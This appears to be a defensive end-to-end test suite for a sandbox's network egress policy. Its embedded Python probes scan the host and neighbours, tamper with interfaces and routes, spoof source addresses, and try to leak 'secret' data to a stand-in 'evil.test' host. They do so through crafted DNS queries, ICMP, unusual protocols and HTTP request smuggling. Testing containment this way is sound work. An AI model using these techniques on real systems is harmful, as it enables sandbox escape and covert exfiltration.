/** Root inside against the network that it has: whom it looks for, what it pretends to be, and by which ways it would speak to somebody who is not allowed. */
import type { NetworkPolicyRequest } from '@dsec/contract';
import type { Sandbox } from '@dsec/libdsec';
import { readFile } from 'node:fs/promises';
import { createServer, type Server } from 'node:net';
import { join } from 'node:path';
import { afterAll, beforeAll, expect, test } from 'vitest';
import { attempts, bringProbe, networked, working } from '../e2e/in-network.ts';
import { useServer } from '../e2e/started-server.ts';
import { waitFor } from '../e2e/wait-for.ts';
import { EVIL, GOOD, GOOD6, HOST4, NAME_SERVER, OTHER, World } from '../e2e/world.ts';
import { attack, expectUnharmed, notRefused, onX64Only } from './attack.ts';
import { NESTED } from './nested.ts';
import { expectNothingTold, expectTold } from './told.ts';

const ZONE = { 'good.test': [GOOD, GOOD6], 'evil.test': [EVIL], '*.evil.test': [EVIL] };

let opened: World | undefined;
const world = (): World => {
  if (opened === undefined) throw new Error('there is no world yet');
  return opened;
};
afterAll(() => opened?.[Symbol.asyncDispose]());
const server = useServer(async () => {
  opened = await World.start(ZONE);
  return { network: true, poolBlanks: 32, variables: { DSEC_RESOLVER_RESOLV_CONF: opened.resolvConf } };
}, ['egress']);
onX64Only();

const byName: NetworkPolicyRequest = { rules: [{ action: 'allow', to: 'good.test' }] };
/** The public internet: what is closed in it is closed always. */
const open: NetworkPolicyRequest = { default: 'allow' };

let sandbox: Sandbox;
let neighbour: Sandbox;
let gateway = '';
let neighbour4 = '';
let onHost: Server;
/** Connections that came to the host itself. */
const came: string[] = [];

const portOf = (listening: Server): number => {
  const bound = listening.address();
  if (typeof bound !== 'object' || bound === null) throw new Error('it does not listen');
  return bound.port;
};

beforeAll(async () => {
  onHost = createServer((socket) => {
    came.push(socket.remoteAddress ?? '');
    socket.end('host');
  });
  await new Promise<void>((resolve) => onHost.listen({ host: '::', port: 0 }, resolve));
  [sandbox, neighbour] = await Promise.all([networked(server(), open), networked(server(), open)]);
  gateway = (JSON.parse(await readFile(join(server().data, 'run/resolver.json'), 'utf8')) as { address4: string })
    .address4;
  neighbour4 = await addressOf(neighbour);
  await neighbour.execDetached(['python3', '-m', 'http.server', '8000'], { cwd: '/etc' });
  await waitFor(
    'the service of the neighbour',
    async () => (await working(neighbour, 'tcp 127.0.0.1 8000')).length === 1,
  );
}, 120_000);

afterAll(async () => {
  expect(await working(neighbour, 'tcp 127.0.0.1 8000', `udp ${GOOD} 9999`)).toHaveLength(2);
  await expectUnharmed(neighbour);
  await expectNothingTold(neighbour);
  await Promise.all([sandbox.stop(), neighbour.stop()]);
  await new Promise((resolve) => onHost.close(resolve));
});

async function addressOf(box: Sandbox): Promise<string> {
  const { stdout } = await box.exec(['ip', '-4', '-o', 'address', 'show', 'dev', 'eth0']);
  return /inet ([0-9.]+)/.exec(stdout)?.[1] ?? '';
}

test('what is refused is told: to whom or by which name, and by which command', async () => {
  await using trying = await networked(server(), byName);
  const words = [
    'resolve secret.evil.test',
    `tcp ${EVIL} 80`,
    `tcp ${neighbour4} 8000`,
    `tcp ${HOST4} ${portOf(onHost)}`,
    `udp ${NAME_SERVER} 53`,
  ];
  expect(await working(trying, ...words)).toEqual([]);
  await attempts(trying, `dns secret.evil.test 16 ${gateway}`);
  await expectTold(trying, 'name', ['secret.evil.test A', 'secret.evil.test TXT']);
  await expectTold(trying, 'connect', [
    `tcp ${EVIL}:80`,
    `tcp ${neighbour4}:8000`,
    `tcp ${HOST4}:${portOf(onHost)}`,
    `udp ${NAME_SERVER}:53`,
  ]);
  expect(came).toEqual([]);
});

test('a scan of the host, of the platform and of neighbours finds the name server and nothing else', {
  timeout: 60_000,
}, async () => {
  const ports = [1, 2049, 2375, 2376, 2379, 3306, 5432, 6379, 6443, 7080, 7300, 8000, 8080, 9000, 10250, 49_983];
  const hosts = { gateway, host: HOST4, neighbour: neighbour4, next: nextOf(neighbour4) };
  const outcomes = await attack(
    sandbox,
    `
import selectors
ports = sorted(set([20, 21, 22, 23, 25, 53, 80, 111, 443, 445, 853] + ${JSON.stringify([...ports, portOf(onHost), Number(new URL(server().endpoint).port)])}))
def scan(host):
    found, asked = [], selectors.DefaultSelector()
    for port in ports:
        probe = socket.socket(socket.AF_INET6 if ':' in host else socket.AF_INET)
        probe.setblocking(False)
        try: probe.connect((host, port))
        except BlockingIOError: asked.register(probe, selectors.EVENT_WRITE, port); continue
        except OSError: continue
        found.append(port)
    until = time.monotonic() + 1.5
    while asked.get_map() and time.monotonic() < until:
        for key, _ in asked.select(until - time.monotonic()):
            asked.unregister(key.fileobj)
            if key.fileobj.getsockopt(socket.SOL_SOCKET, socket.SO_ERROR) == 0: found.append(key.data)
    return found
for name, host in ${JSON.stringify(hosts)}.items(): attempt(name, lambda: scan(host))
def answered(host, port, data):
    probe = socket.socket(socket.AF_INET6 if ':' in host else socket.AF_INET, socket.SOCK_DGRAM)
    probe.settimeout(0.3)
    try: probe.sendto(data, (host, port) if ':' not in host else (host, port, 0, socket.if_nametoindex('eth0'))); return len(probe.recv(99))
    except OSError: return 0
# Who answers to everybody on the link, by discovery, and by name of services.
for host, port in [('224.0.0.1', 9), ('255.255.255.255', 67), ('224.0.0.251', 5353), ('239.255.255.250', 1900), ('ff02::1', 9), ('ff02::fb', 5353), ('${hosts.next}', 137)]:
    attempt('asking %s' % host, lambda: answered(host, port, b'hello'))
attempt('who is known on the link', lambda: [line.split()[0] for line in open('/proc/net/arp').read().splitlines()[1:] if line.split()[0] not in ('${gateway}', '169.254.1.1')])
`,
  );
  expect(Object.fromEntries(outcomes)).toMatchObject({
    gateway: 'DONE [53]',
    host: 'DONE []',
    neighbour: 'DONE []',
    next: 'DONE []',
  });
  for (const [name, outcome] of outcomes)
    if (name.startsWith('asking')) expect([name, outcome]).toEqual([name, 'DONE 0']);
  expect(came).toEqual([]);
});

const nextOf = (address: string): string => address.replace(/\d+$/, (last) => String((Number(last) + 1) % 256));

test('the device, its addresses, its neighbours and its ways stay as they are; no other is made of it, and nothing is sent past it', {
  timeout: 60_000,
}, async () => {
  const before = (await sandbox.runShell('ip -o link show eth0; ip -o address show eth0; ip route; ip neigh')).stdout;
  const outcomes = await attack(
    sandbox,
    `${NESTED}
def ip(*words):
    done = subprocess.run(['ip', *words], capture_output=True, text=True)
    if done.returncode != 0: raise OSError(errno.EPERM, done.stderr)
GAMES = ['link set eth0 address 02:00:00:00:00:01', 'link set eth0 promisc on', 'link set eth0 mtu 9000', 'link set eth0 down', 'link set eth0 name eth9', 'link set eth0 arp off',
  'address add ${neighbour4}/32 dev eth0', 'address add ${gateway}/32 dev eth0', 'address flush dev eth0', 'neigh replace ${gateway} lladdr 02:00:00:00:00:01 dev eth0', 'neigh add proxy ${neighbour4} dev eth0',
  'route replace default via ${neighbour4} dev eth0 onlink', 'route add 169.254.169.254 dev eth0', 'rule add table 99', 'link add m0 link eth0 type macvlan', 'link add i0 link eth0 type ipvlan', 'link add link eth0 name v0 type vlan id 7',
  'link add b0 type bridge', 'link add d0 type veth peer name d1', 'tunnel add t0 mode ipip remote ${EVIL} local ${GOOD}', 'netns add n0', '-6 address add fe80::99/64 dev eth0', 'maddress add 33:33:00:00:00:99 dev eth0', 'link set eth0 netns 1']
for words in GAMES: attempt(words, lambda: ip(*words.split()))
for name, action in {
  'a packet of its own making': lambda: socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(3)), 'a packet below the address': lambda: socket.socket(socket.AF_PACKET, socket.SOCK_DGRAM, socket.htons(0x806)),
  'raw': lambda: socket.socket(socket.AF_INET, socket.SOCK_RAW, 255), 'raw v6': lambda: socket.socket(socket.AF_INET6, socket.SOCK_RAW, 58),
  'transparent': lambda: socket.socket().setsockopt(0, 19, 1), 'mark': lambda: socket.socket().setsockopt(1, 36, 1), 'a filter that is a program': lambda: socket.socket().setsockopt(1, 50, struct.pack('i', 0)),
  'hardware address by request': lambda: fcntl.ioctl(socket.socket(), 0x8924, struct.pack('16sH14s', b'eth0', 1, bytes(14))), 'a neighbour by request': lambda: fcntl.ioctl(socket.socket(), 0x8955, bytes(68)),
  'settings of the driver': lambda: fcntl.ioctl(socket.socket(), 0x8946, struct.pack('16sQ16s', b'eth0', 0, bytes(16))), 'forwarding': lambda: write('/proc/sys/net/ipv4/ip_forward', b'1'), 'own ways of resolving': lambda: write('/proc/sys/net/ipv4/conf/eth0/accept_local', b'1'),
}.items(): attempt(name, action)
def as_another(address, to):
    sender = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    sender.setsockopt(0, 15, 1)
    sender.bind((address, 9999))
    sender.sendto(b'spoofed', (to, 9999))
for address in ['${neighbour4}', '${gateway}', '${HOST4}', '10.9.9.9']:
    try: as_another(address, '${GOOD}')
    except OSError: pass
def nested_ways():
    # Its own network, in which it may do all of that, and from which nothing leads anywhere.
    attempt('nested: taking the device', lambda: ip('link', 'set', 'eth0', 'netns', str(os.getpid())))
    attempt('nested: devices', lambda: [name for _, name in socket.if_nameindex() if name != 'lo'])
    attempt('nested: packets', lambda: socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(3)))
    attempt('nested: reaching', lambda: socket.create_connection(('${GOOD}', 443), 0.5))
    attempt('nested: back', lambda: call(308, before, 0x40000000))
before = os.open('/proc/self/ns/net', os.O_RDONLY)
nested(nested_ways)
`,
  );
  const answered = notRefused(outcomes).filter((line) => line !== 'nested: devices: DONE []');
  // The kernel takes it of everybody, for sockets of their own: it names a driver, and changes nothing.
  expect(answered.filter((line) => !line.startsWith('settings of the driver'))).toEqual([]);
  expect(
    (await sandbox.runShell('ip -o link show eth0; ip -o address show eth0; ip route; ip neigh')).stdout
      .split('\n')
      .filter((line) => !/lladdr/.test(line)),
  ).toEqual(before.split('\n').filter((line) => !/lladdr/.test(line)));
  expect(await working(sandbox, `udp ${GOOD} 9999`)).toHaveLength(1);
  // That one arrived, and what pretended to come from somebody else did not.
  expect(world().datagrams.filter((port) => port === 9999)).toHaveLength(1);
});

test('no name gets out by a question: of any type, to any server, over any transport, or dressed as something else', {
  timeout: 60_000,
}, async () => {
  await sandbox.policy.set({ network: byName });
  world().forget();
  const types = [1, 2, 5, 6, 10, 12, 15, 16, 28, 33, 35, 41, 43, 46, 64, 65, 99, 251, 252, 255, 256, 257, 65_399];
  const asks = types.flatMap((type) => [
    `dns t${type}.evil.test ${type} ${gateway}`,
    `dns secret.good.test ${type} ${gateway} tcp`,
  ]);
  // Of an allowed name only its addresses are asked for.
  const ofGood = types.filter((type) => ![1, 28].includes(type)).map((type) => `dns good.test ${type} ${gateway}`);
  for (const { ok } of await attempts(sandbox, ...asks, ...ofGood))
    if (ok !== undefined) expect(ok).toMatchObject({ answers: 0 });
  expect(
    await working(
      sandbox,
      'resolve secret.evil.test',
      ...['8.8.8.8', '1.1.1.1', NAME_SERVER, EVIL, GOOD].flatMap((to) => [
        `dns direct.evil.test 1 ${to}`,
        `dns direct.evil.test 1 ${to} tcp`,
        // By TLS, and by HTTPS under the name of a public resolver, or of one that is allowed.
        `tcp ${to} 853`,
        `tls ${to} 443 dns.google`,
        `tls ${to} 443 cloudflare-dns.com`,
        `http ${to} 80 dns.google`,
      ]),
      `udp ${EVIL} 443`,
      `udp ${GOOD} 443`,
      `udp ${GOOD} 5353`,
      `tls ${EVIL} 443 good.test`,
      `http ${EVIL} 80 good.test`,
    ),
  ).toEqual([]);
  const outcomes = await attack(
    sandbox,
    `
def raw(data, over='udp'):
    probe = socket.socket(socket.AF_INET, socket.SOCK_DGRAM if over == 'udp' else socket.SOCK_STREAM)
    probe.settimeout(0.5)
    probe.connect(('${gateway}', 53))
    probe.send(data if over == 'udp' else struct.pack('>H', len(data)) + data)
    try: answer = probe.recv(4096)
    except socket.timeout: return 'silent'
    answer = answer if over == 'udp' else answer[2:]
    return (answer[3] & 15, struct.unpack('>H', answer[6:8])[0]) if len(answer) >= 12 else 'closed'
def question(name, kind=1, kls=1, flags=0x100, count=1, more=b''):
    labels = b''.join(bytes([len(l)]) + l for l in name.split(b'.')) + b'\\0'
    return struct.pack('>HHHHHH', 7, flags, count, 0, 0, 1 if more else 0) + (labels + struct.pack('>HH', kind, kls)) * max(count, 1) + more
SECRETS = {
  'two questions': question(b'good.test')[:4] + b'\\0\\2' + question(b'good.test')[6:] + question(b'two.evil.test')[12:], 'chaos': question(b'chaos.evil.test', 16, 3), 'an update': question(b'update.evil.test', 6, 1, 0x2800),
  'a notification': question(b'notify.evil.test', 6, 1, 0x2000), 'an answer': question(b'answer.evil.test', 1, 1, 0x8100), 'an option': question(b'good.test', more=b'\\0' + struct.pack('>HHIHHH', 41, 4096, 0, 9, 65001, 5) + b'secret'[:5]),
  'a name in capitals': question(b'SECRET.EVIL.TEST'), 'a name with a NUL': question(b'good.test\\0.evil.test'), 'a name that is a jump': struct.pack('>HHHHHH', 7, 256, 1, 0, 0, 0) + b'\\3jmp\\xc0\\x0c' + struct.pack('>HH', 1, 1),
  'a label behind the root': question(b'good.test') + b'\\6secret\\4evil\\4test\\0', 'the name of an allowed one within': question(b'good.test.evil.test'), 'nothing': b'', 'noise': bytes(range(200)),
}
for name, data in SECRETS.items():
    attempt(name, lambda: raw(data))
    attempt(name + ' by TCP', lambda: raw(data, 'tcp'))
def icmp(family, protocol, host):
    probe = socket.socket(family, socket.SOCK_DGRAM, protocol); probe.settimeout(0.5)
    probe.sendto(struct.pack('>BBHHH', 8 if family == socket.AF_INET else 128, 0, 0, 0, 1) + b'secret', (host, 0)); return probe.recv(99)
for host in ['${EVIL}', '${GOOD}', '${NAME_SERVER}']: attempt('ping ' + host, lambda: icmp(socket.AF_INET, 1, host))
attempt('ping6', lambda: icmp(socket.AF_INET6, 58, '${GOOD6}'))
def by_protocol(kind, protocol):
    stream = socket.socket(socket.AF_INET, kind, protocol); stream.settimeout(0.3)
    stream.connect(('${EVIL}', 80)); stream.send(b'secret'); return stream.recv(99)
for protocol in [33, 132, 136, 47, 4, 41, 50, 262]:
    for kind in [1, 2, 3, 5, 6]: attempt('protocol %d %d' % (protocol, kind), lambda: by_protocol(kind, protocol))
`,
  );
  // What is told of pings and other transports is that they do not work.
  expect(
    [...outcomes].filter(([name, outcome]) => /^(ping|protocol)/.test(name) && outcome.startsWith('DONE')),
  ).toEqual([]);
  expect(world().asked.filter(({ name, type }) => name !== 'good.test' || !['A', 'AAAA'].includes(type))).toEqual([]);
  expect([world().connections, world().datagrams]).toEqual([[], []]);
  expect(await working(sandbox, 'resolve good.test', `tls ${GOOD} 443 good.test`)).toHaveLength(2);
});

test('behind an allowed name is nobody else: by the second request, by a proxy, by another way of writing, or by what comes back', {
  timeout: 60_000,
}, async () => {
  await sandbox.policy.set({ network: byName });
  expect(await working(sandbox, 'resolve good.test', `http ${GOOD} 80 good.test`)).toHaveLength(2);
  world().forget();
  const outcomes = await attack(
    sandbox,
    `
def talk(*parts):
    with socket.create_connection(('${GOOD}', 80), 2) as stream:
        stream.settimeout(1)
        received = b''
        for part in parts:
            stream.sendall(part)
            try:
                while chunk := stream.recv(65536):
                    received += chunk
                    if b'}' in chunk or b'\\r\\n0\\r\\n' in chunk: break
            except (socket.timeout, ConnectionError): pass
        return received.count(b'evil'), received.count(b'HTTP/1.1 200')
good, evil = [b'GET / HTTP/1.1\\r\\nHost: ' + name + b'\\r\\nConnection: keep-alive\\r\\n\\r\\n' for name in (b'good.test', b'evil.test')]
WAYS = {'a second request': [good, evil], 'two in one': [good + evil], 'a whole address': [b'GET http://evil.test/ HTTP/1.1\\r\\nHost: good.test\\r\\n\\r\\n'], 'two names': [b'GET / HTTP/1.1\\r\\nHost: good.test\\r\\nHost: evil.test\\r\\n\\r\\n'],
  'a proxy': [b'CONNECT evil.test:443 HTTP/1.1\\r\\nHost: good.test\\r\\n\\r\\n' + evil], 'a body that is a request': [b'POST / HTTP/1.1\\r\\nHost: good.test\\r\\nContent-Length: 4\\r\\nTransfer-Encoding: chunked\\r\\n\\r\\n0\\r\\n\\r\\n' + evil],
  'a name on two lines': [b'GET / HTTP/1.1\\r\\nHost: good.test\\r\\n evil.test\\r\\n\\r\\n'], 'no name': [b'GET / HTTP/1.0\\r\\n\\r\\n'], 'neither': [b'SSH-2.0-evil\\r\\n']}
for name, parts in WAYS.items(): attempt(name, lambda: talk(*parts))
`,
  );
  for (const [name, outcome] of outcomes)
    expect([name, outcome]).toEqual([name, expect.stringMatching(/^(DONE \(0, [01]\)|E[A-Z]+)$/)]);
  expect(world().connections.filter(({ address }) => address !== GOOD)).toEqual([]);
  await sandbox.policy.set({ network: open });
});

test('a sandbox that is allowed nothing reaches nothing, whatever else it is given', { timeout: 60_000 }, async () => {
  await using closed = await server().sandbox({ policy: { network: {}, profile: 'builder' } });
  await bringProbe(closed);
  world().forget();
  expect(
    await working(
      closed,
      'resolve good.test',
      `tcp ${GOOD} 443`,
      `udp ${GOOD} 9999`,
      `tcp ${OTHER} 80`,
      `dns a.evil.test 1 ${gateway}`,
      `tcp ${gateway} 53`,
      `tcp ${GOOD6} 443`,
      `tcp ${neighbour4} 8000`,
    ),
  ).toEqual([]);
  expect((await closed.exec(['ls', '/sys/class/net'])).stdout).toBe('lo\n');
  expect([world().asked, world().connections, world().datagrams]).toEqual([[], [], []]);
});
